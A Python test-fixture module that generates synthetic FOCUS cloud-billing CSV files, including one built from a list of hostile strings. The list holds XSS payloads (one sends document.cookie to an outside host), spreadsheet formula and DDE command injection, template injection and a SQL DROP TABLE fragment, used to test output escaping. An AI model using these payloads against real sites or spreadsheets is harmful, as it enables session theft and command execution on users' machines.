"""Small FOCUS files: an own bill in several currencies, and one whose every text is hostile."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterable, Iterator, Mapping
from dataclasses import dataclass, field
from datetime import date, timedelta
from decimal import Decimal

from outlay.demo.bills import SEED_DAY
from warehouse.focus import version_columns

HOSTILE = (
    "<img src=x onerror=alert(1)>",
    "<script>fetch('http://example.org/'+document.cookie)</script>",
    "\"><svg onload=alert(2)>'`",
    "javascript:alert(3)",
    '=HYPERLINK("http://example.org","click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1-2",
    "💸🔥👩🏽‍💻",
    "\u202eשלום עולם\u202c مرحبا",
    "M" * 64,
    "{{constructor.constructor('alert(4)')()}}",
    "a,b:c\\d~e&f=g#h?i%20j+k",
    "Ā́͂̃̄ ﷽ 𒐫",
    "two\nlines and\ta tab",
    "W" * 400,
    'It\'s "quoted" `thrice`; DROP TABLE lines; --',
)


@dataclass(frozen=True, slots=True)
class Charge:
    """One row of a bill."""

    service: str
    cost: Decimal
    day: date = SEED_DAY - timedelta(days=5)
    currency: str = "USD"
    account: str = "acc-1"
    resource: str | None = None
    tags: Mapping[str, str] = field(default_factory=dict)
    unit: str = "Hours"
    quantity: Decimal = Decimal(1)


def focus_file(charges: Iterable[Charge]) -> bytes:
    text = io.StringIO(newline="")
    writer = csv.DictWriter(text, [column.name for column in version_columns("1.2")], restval="")
    writer.writeheader()
    writer.writerows(map(_row, charges))
    return text.getvalue().encode()


def own_bill() -> bytes:
    """Four weeks of three teams, by tag, in one currency."""
    teams = (("checkout", "12.34"), ("search", "7.005"), ("data", "0.8"))
    return focus_file(
        Charge(
            f"Service {1 + number % 3}",
            Decimal(cost) * (1 + back % 7),
            SEED_DAY - timedelta(days=1 + back),
            resource=f"{team}-{number}",
            tags={"team": team},
        )
        for back in range(28)
        for number, (team, cost) in enumerate(teams)
    )


def three_currencies() -> bytes:
    """Amounts with many digits, negative totals and units that must never be added up."""
    return focus_file(
        Charge(
            f"Service {1 + number % 4}",
            Decimal(sign) * Decimal(number * 7919 % 1000 + 1) / Decimal(10**places),
            SEED_DAY - timedelta(days=1 + number % 20),
            currency,
            account=f"acc-{1 + number % 2}",
            tags={"team": "abc"[number % 3]},
            unit=("Hours", "GB", "Requests")[number % 3],
            quantity=Decimal(number) / 8,
        )
        for currency, sign, places in (("EUR", 1, 9), ("USD", 1, 2), ("JPY", -1, 0))
        for number in range(1, 41)
    )


def many_teams(teams: int = 300, services: int = 5000) -> bytes:
    """As many teams and services as a large company has, over four weeks."""
    return focus_file(
        Charge(
            f"Service {number:05}",
            Decimal(number % 977) / 100 + Decimal("0.001"),
            SEED_DAY - timedelta(days=1 + number % 28),
            account=f"acc-{number % 60}",
            tags={"team": f"team-{number % teams:03}"},
        )
        for number in range(services)
    )


def one_day() -> bytes:
    """All that came on one day, a week ago."""
    day = SEED_DAY - timedelta(days=7)
    return focus_file(
        Charge(f"Service {number}", Decimal("1.10") * (number + 1), day, tags={"team": "ab"[number % 2]})
        for number in range(6)
    )


def only_credits() -> bytes:
    """Everything is given back, a little more every day."""
    return focus_file(
        Charge(
            f"Service {number % 3}",
            -Decimal(number + 1) / 8,
            SEED_DAY - timedelta(days=1 + number % 20),
            tags={"team": "ab"[number % 2]},
        )
        for number in range(60)
    )


def hostile_bill() -> bytes:
    return focus_file(_hostile_charges())


def _hostile_charges() -> Iterator[Charge]:
    for number, text in enumerate(HOSTILE):
        tags = {"team": text, text: text, f"key {number}": text}
        yield Charge(text, Decimal(100 - number), account=text, resource=text, tags=tags, unit=text)
    yield Charge("Plain", Decimal(3), tags={"team": "plain"})


def _row(charge: Charge) -> dict[str, str]:
    month = charge.day.replace(day=1)
    following = (month + timedelta(days=32)).replace(day=1)
    cost = f"{charge.cost:f}"
    return {
        "BilledCost": cost,
        "EffectiveCost": cost,
        "ListCost": cost,
        "ContractedCost": cost,
        "BillingAccountId": "B-1",
        "BillingAccountName": "Own company",
        "BillingCurrency": charge.currency,
        "BillingPeriodStart": f"{month}T00:00:00Z",
        "BillingPeriodEnd": f"{following}T00:00:00Z",
        "ChargePeriodStart": f"{charge.day}T00:00:00Z",
        "ChargePeriodEnd": f"{charge.day + timedelta(days=1)}T00:00:00Z",
        "ChargeCategory": "Usage",
        "ChargeDescription": f"{charge.service}, {charge.unit}",
        "ChargeFrequency": "Usage-Based",
        "ConsumedQuantity": f"{charge.quantity:f}",
        "ConsumedUnit": charge.unit,
        "InvoiceIssuerName": "Vendor",
        "PricingCategory": "Standard",
        "PricingCurrency": charge.currency,
        "PricingQuantity": f"{charge.quantity:f}",
        "PricingUnit": charge.unit,
        "ProviderName": "Vendor",
        "PublisherName": "Vendor",
        "ResourceId": charge.resource or "",
        "ResourceName": charge.resource or "",
        "ServiceCategory": "Compute",
        "ServiceName": charge.service,
        "SubAccountId": charge.account,
        "SubAccountName": charge.account,
        "Tags": json.dumps(charge.tags, ensure_ascii=False),
    }
